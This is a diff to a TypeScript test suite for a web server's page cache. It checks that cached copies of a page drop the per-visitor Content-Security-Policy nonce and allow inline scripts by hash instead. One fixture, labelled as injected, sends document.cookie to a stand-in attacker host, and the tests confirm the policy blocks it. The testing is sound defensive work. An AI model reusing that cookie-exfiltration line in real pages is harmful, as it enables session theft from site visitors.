@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto'
 import http from 'node:http'
 import { brotliDecompressSync, gunzipSync } from 'node:zlib'
 import { eq } from 'drizzle-orm'
@@ -18,10 +19,17 @@ let packageId: number
 const SLUG = 'hot-path-lisbon'
 const API = `/api/travel-packages/${SLUG}`
 
-/** Stands in for React Router: a page written in pieces, as a streamed render is. */
+/** React Router's kind of inline script, given the answer's nonce; and one a stored HTML section slipped in. */
+const HYDRATION = 'window.__reactRouterContext = {"url":"/scripted"};'
+const INJECTED = 'fetch("https://evil.example/?" + document.cookie)'
+
+/** Stands in for React Router: a page written in pieces, as a streamed render is; `/scripted` with scripts. */
 const streamedPage: RequestHandler = (req, res) => {
   res.type('html')
   res.write('<!doctype html><main>')
+  if (req.path === '/scripted') {
+    res.write(`<script nonce="${res.locals.cspNonce}">${HYDRATION}</script><script>${INJECTED}</script>`)
+  }
   res.end(`${req.path}</main>`)
 }
 
@@ -73,6 +81,21 @@ const contentHeaders = ({ headers }: Answer) => {
   return rest
 }
 
+/**
+ * A fresh page's headers as its kept copy carries them (decision 62): the fresh answer's nonce is its
+ * visitor's, so no shared cache keeps that answer, and the copy everyone gets names no nonce.
+ */
+const keptFormOf = (fresh: Answer) => {
+  const headers = contentHeaders(fresh)
+  expect(headers['cache-control']).toBe('private, max-age=0, must-revalidate')
+  expect(headers['content-security-policy']).toMatch(/ 'nonce-[^']+'/)
+  return {
+    ...headers,
+    'cache-control': 'public, max-age=0, must-revalidate, s-maxage=30',
+    'content-security-policy': String(headers['content-security-policy']).replace(/ 'nonce-[^']+'/, ''),
+  }
+}
+
 /** Makes one request and says whether the hot path of `target` answered it. */
 async function answeredAtOnce(request: () => Promise<Answer>, target = server): Promise<[Answer, boolean]> {
   const before = target.answeredAtOnce()
@@ -113,7 +136,7 @@ describe('a kept answer, given before the middleware runs', () => {
     // A rendered page comes with no ETag; the kept one has one, for a browser to revalidate against.
     const { etag, ...others } = contentHeaders(kept)
     expect(etag).toMatch(/^W\/".+"$/)
-    expect(others).toEqual(contentHeaders(fresh))
+    expect(others).toEqual(keptFormOf(fresh))
     expect(kept.headers['transfer-encoding']).toBeUndefined()
     expect(kept.headers['content-length']).toBe(String(kept.body.length))
   })
@@ -221,6 +244,43 @@ describe('what the hot path leaves to the middleware', () => {
   })
 })
 
+describe('the CSP nonce of a kept page (issue 38, finding 6)', () => {
+  const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
+  const nonceInHeader = (answer: Answer) =>
+    /'nonce-([^']+)'/.exec(String(answer.headers['content-security-policy']))?.[1]
+  const scriptSources = (answer: Answer) =>
+    /script-src ([^;]*)/.exec(String(answer.headers['content-security-policy']))?.[1]?.split(' ')
+
+  it('is never the same for two visitors: the kept copy lets its scripts in by their hash instead', async () => {
+    const [fresh, freshAtOnce] = await answeredAtOnce(() => get('/scripted'))
+    expect(freshAtOnce).toBe(false)
+    const nonce = nonceInHeader(fresh)
+    expect(nonce).toBeDefined()
+    expect(fresh.body.toString()).toContain(`<script nonce="${nonce}">${HYDRATION}</script>`)
+    // The first visitor's nonce is theirs: no CDN may keep that answer for the next.
+    expect(fresh.headers['cache-control']).toBe('private, max-age=0, must-revalidate')
+
+    const [hot, hotAtOnce] = await answeredAtOnce(() => get('/scripted'))
+    // Through the middleware: its parameter is dropped, then the same copy is answered.
+    const [longWay, longWayAtOnce] = await answeredAtOnce(() => get('/scripted?utm_source=mail'))
+    const [brotli] = await answeredAtOnce(() => get('/scripted', { 'accept-encoding': 'br' }))
+    expect([hotAtOnce, longWayAtOnce]).toEqual([true, false])
+    for (const kept of [hot, longWay, brotli]) {
+      expect(kept.headers['cache-control']).toBe('public, max-age=0, must-revalidate, s-maxage=30')
+      expect(nonceInHeader(kept)).toBeUndefined()
+      expect(scriptSources(kept)).toEqual(["'self'", sha256(HYDRATION), 'https://widgets.travelify.io'])
+      // The injected script has no hash there: a browser refuses it, as it refused it without the nonce.
+      expect(scriptSources(kept)).not.toContain(sha256(INJECTED))
+    }
+    for (const body of [hot.body, longWay.body, brotliDecompressSync(brotli.body)]) {
+      expect(body.toString()).toBe(
+        `<!doctype html><main><script>${HYDRATION}</script><script>${INJECTED}</script>/scripted</main>`,
+      )
+      expect(body.toString()).not.toContain(String(nonce))
+    }
+  })
+})
+
 describe('the scheme a proxy forwards, where pages take their address from the request', () => {
   /** Asks twice: the first answer is worked out, the second comes from memory with the same headers. */
   async function firstThenKept(target: TestServer, path: string, headers: Record<string, string>) {
@@ -229,7 +289,7 @@ describe('the scheme a proxy forwards, where pages take their address from the r
     expect([freshAtOnce, keptAtOnce]).toEqual([false, true])
     // But for the ETag a kept page gains.
     const { etag: _etag, ...keptHeaders } = contentHeaders(kept)
-    expect(keptHeaders).toEqual(contentHeaders(fresh))
+    expect(keptHeaders).toEqual(keptFormOf(fresh))
     return kept
   }
 
